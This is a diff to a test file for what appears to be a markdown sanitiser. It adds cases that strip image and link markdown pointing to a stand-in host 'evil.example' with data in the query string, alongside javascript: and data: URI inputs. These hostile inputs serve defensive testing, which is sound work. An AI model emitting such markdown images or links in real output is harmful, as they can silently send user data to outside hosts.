@@ -23,6 +23,8 @@ def said(text: str, size: int = 1) -> str:
         ("Worth ![x](https://evil.example/?d=31337.42) now", "Worth [x] now"),
         ("![x]( <https://evil.example/?d=1> 'title')", "[x]"),
         ("![a\nb](\nhttps://evil.example/1)", "[a\nb]"),
+        ("Wow!!![x](https://evil.example/?d=1)", "Wow[x]"),
+        ("!![x](/portfolios/1)", "[x](/portfolios/1)"),
         ("[here](https://evil.example/?d=1)", "[here]"),
         ("[here](javascript:alert(1))", "[here])"),
         ("[here](data:text/html;base64,AA)", "[here]"),
